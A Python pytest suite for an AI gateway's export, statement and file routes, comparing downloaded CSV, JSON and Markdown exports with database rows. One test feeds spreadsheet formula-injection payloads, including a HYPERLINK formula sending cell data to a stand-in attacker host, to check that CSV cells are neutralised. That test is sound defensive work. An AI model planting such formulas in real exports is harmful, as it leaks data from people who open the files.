"""Exports and statements through the product API, run by a worker, read back through the
download route and compared with the rows they came from."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from sqlalchemy import text

from ..helpers import Gateway, make_tenant

MODEL = "deepspace-simulated-chat"


@pytest.fixture
def busy(gateway_factory: Callable[..., Gateway], worker_factory: Callable[..., Any]) -> tuple[Gateway, Any]:
    """A gateway whose tenant made a few chat calls (usage rows, ledger entries, messages),
    and a worker on the same settings."""
    gw = gateway_factory(worker_backend="sqlite")
    tenant = make_tenant(gw.settings, email="exporter@example.org", scopes=("chat", "workflows"))
    headers = {"Authorization": f"Bearer {tenant.api_key}"}
    conv = httpx.post(gw.url + "/deepspace/api/conversations", headers=headers, json={"title": "t|1"}).json()["id"]
    for i in range(3):
        response = httpx.post(gw.base_url + "/chat/completions", headers=headers, timeout=30, json={
            "model": MODEL, "conversation_id": conv,
            "messages": [{"role": "user", "content": f"hello {i}, with | pipe and\nnewline"}]})
        assert response.status_code == 200, response.text
    worker_factory(gw.settings)
    return gw, (tenant, headers)


def run_job(gw: Gateway, headers: dict[str, str], path: str, body: dict[str, Any]) -> dict[str, Any]:
    response = httpx.post(gw.url + "/deepspace/api" + path, headers=headers, json=body)
    assert response.status_code == 202, response.text
    job = response.json()
    deadline = time.monotonic() + 30
    while job["state"] not in ("done", "failed"):
        assert time.monotonic() < deadline, job
        time.sleep(0.05)
        job = httpx.get(gw.url + f"/deepspace/api/jobs/{job['id']}", headers=headers).json()
    assert job["state"] == "done", job
    assert job["progress"]["percent"] == 100.0
    return job


def download(gw: Gateway, headers: dict[str, str], file_id: str) -> httpx.Response:
    response = httpx.get(gw.url + f"/deepspace/api/files/{file_id}/content", headers=headers)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return response


def db_rows(gw: Gateway, sql: str, **params: Any) -> list[dict[str, Any]]:
    with gw.db.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(text(sql), params)]


@pytest.mark.parametrize("fmt", ["csv", "json", "md"])
def test_usage_export_matches_the_usage_rows(busy: tuple[Gateway, Any], fmt: str) -> None:
    gw, (tenant, headers) = busy
    job = run_job(gw, headers, "/exports", {"dataset": "usage", "format": fmt})
    source = db_rows(gw, "SELECT request_id, cost_micros, prompt_tokens FROM usage_records WHERE org_id = :o "
                         "ORDER BY id", o=tenant.org_id)
    assert len(source) == 3 and job["result"]["rows"] == 3
    body = download(gw, headers, job["result"]["file_id"]).text
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(body)))
        got = [{"request_id": r["request_id"], "cost_micros": int(r["cost_micros"]),
                "prompt_tokens": int(r["prompt_tokens"])} for r in rows]
    elif fmt == "json":
        got = [{k: r[k] for k in ("request_id", "cost_micros", "prompt_tokens")} for r in json.loads(body)]
    else:
        lines = [line for line in body.splitlines() if line.startswith("| ") and "request_id" not in line]
        header = next(line for line in body.splitlines() if line.startswith("| id "))
        names = [c.strip() for c in header.strip("|").split("|")]
        cells = [[c.strip() for c in line.strip("|").split(" | ")] for line in lines]
        got = [{"request_id": c[names.index("request_id")], "cost_micros": int(c[names.index("cost_micros")]),
                "prompt_tokens": int(c[names.index("prompt_tokens")])} for c in cells]
    assert got == source


def test_transactions_and_conversations_exports_match_their_rows(busy: tuple[Gateway, Any]) -> None:
    gw, (tenant, headers) = busy
    job = run_job(gw, headers, "/exports", {"dataset": "transactions", "format": "json"})
    entries = json.loads(download(gw, headers, job["result"]["file_id"]).text)
    source = db_rows(gw, "SELECT type, ref, amount_micros FROM transactions WHERE org_id = :o ORDER BY id",
                     o=tenant.org_id)
    assert [{k: e[k] for k in ("type", "ref", "amount_micros")} for e in entries] == source

    job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(download(gw, headers, job["result"]["file_id"]).text)))
    source = db_rows(gw, "SELECT role, content FROM messages WHERE org_id = :o ORDER BY id", o=tenant.org_id)
    assert [{"role": r["role"], "content": r["content"]} for r in rows] == source and len(source) == 6
    assert job["result"]["rows"] == 6 and job["progress"] == {"done": 6, "total": 6, "percent": 100.0}
    assert {r["title"] for r in rows} == {"t|1"}


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(busy: tuple[Gateway, Any]) -> None:
    """A message reading ``=HYPERLINK(…)`` (or starting + - @) exports to CSV with a leading
    ``'``, so an admin opening the file in a spreadsheet sees text, not a formula; the JSON
    export keeps the content as it is."""
    from deepspace_lab.jobs.exports import csv_cell

    gw, (tenant, headers) = busy
    conv = httpx.post(gw.url + "/deepspace/api/conversations", headers=headers, json={"title": "@title"}).json()["id"]
    typed = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+1+2", "-3", "@SUM(A1:A9)", "plain = text"]
    for content in typed:
        response = httpx.post(gw.base_url + "/chat/completions", headers=headers, timeout=30, json={
            "model": MODEL, "conversation_id": conv, "messages": [{"role": "user", "content": content}]})
        assert response.status_code == 200, response.text

    job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(download(gw, headers, job["result"]["file_id"]).text)))
    mine = [r for r in rows if r["conversation_id"] == conv]
    assert [r["content"] for r in mine if r["role"] == "user"] == ["'" + c for c in typed[:4]] + [typed[4]]
    assert {r["title"] for r in mine} == {"'@title"}
    assert (csv_cell(-3), csv_cell(0.5), csv_cell("-3"), csv_cell("a=1")) == (-3, 0.5, "'-3", "a=1")  # numbers stay

    job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "json"})
    entries = [e for e in json.loads(download(gw, headers, job["result"]["file_id"]).text)
               if e["conversation_id"] == conv]
    assert [e["content"] for e in entries if e["role"] == "user"] == typed


def test_an_export_window_and_bad_params_are_checked(busy: tuple[Gateway, Any]) -> None:
    gw, (tenant, headers) = busy
    job = run_job(gw, headers, "/exports", {"dataset": "usage", "format": "csv", "until": "2000-01-01T00:00:00Z"})
    assert job["result"]["rows"] == 0
    for body, param in (({"dataset": "secrets"}, "dataset"), ({"dataset": "usage", "format": "xls"}, "format"),
                        ({"dataset": "usage", "since": "yesterday"}, "since"),
                        ({"dataset": "transactions", "project_id": tenant.project_id}, "project_id")):
        response = httpx.post(gw.url + "/deepspace/api/exports", headers=headers, json=body)
        assert response.status_code == 400, body
        assert response.json()["error"]["param"] == param


def test_the_monthly_statement_shows_usage_and_money(busy: tuple[Gateway, Any]) -> None:
    gw, (tenant, headers) = busy
    from datetime import UTC, datetime

    from deepspace_lab.billing.rollups import roll_up_due

    gw.loop.run(roll_up_due(gw.runtime.engine, now=datetime(2100, 1, 1, tzinfo=UTC)))
    month = datetime.now(UTC).strftime("%Y-%m")
    job = run_job(gw, headers, "/statements", {"month": month})
    files = {f["format"]: f for f in job["result"]["files"]}
    md = download(gw, headers, files["md"]["file_id"]).text
    rows = list(csv.reader(io.StringIO(download(gw, headers, files["csv"]["file_id"]).text)))
    wallet = httpx.get(gw.url + "/deepspace/api/wallet", headers=headers).json()
    captured = sum(r["amount_micros"] for r in db_rows(
        gw, "SELECT amount_micros FROM transactions WHERE org_id = :o AND type = 'capture'", o=tenant.org_id))
    by_section = {r[0]: r for r in rows[1:] if r[0] != "usage"}
    usage = [r for r in rows if r[0] == "usage"]
    assert int(by_section["closing_balance"][6]) == wallet["balance_micros"]
    assert int(by_section["capture"][6]) == captured
    assert int(by_section["credit"][6]) == 10**12 and int(by_section["opening_balance"][6]) == 0
    assert [(u[1], u[2], int(u[3]), int(u[6])) for u in usage] == [(tenant.project_id, MODEL, 3, captured)]
    assert f"# Statement {month}" in md and "| closing balance |" in md


def test_the_client_exports_uploads_lists_reads_and_deletes_files(busy: tuple[Gateway, Any]) -> None:
    """``deepspace_lab.client``'s files, jobs and exports calls, sync and async, on the same routes."""
    from deepspace_lab.client import AsyncDeepSpaceClient, DeepSpaceClient, InvalidRequestError, NotFoundError

    gw, (tenant, headers) = busy
    with DeepSpaceClient(base_url=gw.url, api_key=tenant.api_key, timeout_s=20) as client:
        job = client.export("usage", "json")
        assert job["state"] in ("queued", "running", "done") and job["kind"] == "export"
        deadline = time.monotonic() + 30
        while job["state"] not in ("done", "failed"):
            assert time.monotonic() < deadline, job
            time.sleep(0.05)
            job = client.job(job["id"])
        assert job["state"] == "done", job
        assert job["id"] in {j["id"] for j in client.jobs(kind="export")["data"]}
        exported = job["result"]["file_id"]
        assert client.file_content(exported) == download(gw, headers, exported).content
        assert len(json.loads(client.file_content(exported))) == 3

        data = bytes(range(256)) * 3  # not text: returned exactly as stored
        stored = client.upload_file("table.bin", data)
        assert stored["name"] == "table.bin" and stored["size_bytes"] == len(data)
        assert client.file(stored["id"])["size_bytes"] == len(data)
        assert client.file_content(stored["id"]) == data
        big = bytes(range(256)) * 12_000  # ~3 MB: the Gateway streams it in 1 MiB pieces
        large = client.upload_file("large.bin", big)
        pieces = list(client.file_chunks(large["id"]))
        assert b"".join(pieces) == big and len(pieces) > 1
        assert stored["id"] in {f["id"] for f in client.files()["data"]}
        assert client.delete_file(stored["id"]) is None
        with pytest.raises(NotFoundError):
            client.file_content(stored["id"])
        with pytest.raises(NotFoundError):
            next(client.file_chunks(stored["id"]))
        with pytest.raises(InvalidRequestError) as refused:
            client.export("secrets")
        assert refused.value.code == "invalid_job_params"

    async def async_upload() -> bytes:
        async with AsyncDeepSpaceClient(base_url=gw.url, api_key=tenant.api_key, timeout_s=20) as client:
            stored = await client.upload_file("notes.md", b"# notes\n", content_type="text/markdown")
            streamed = b"".join([piece async for piece in client.file_chunks(stored["id"])])
            assert streamed == b"# notes\n"
            with pytest.raises(NotFoundError):
                await anext(client.file_chunks("file_unknown"))
            return bytes(await client.file_content(stored["id"]))

    import asyncio

    assert asyncio.run(async_upload()) == b"# notes\n"
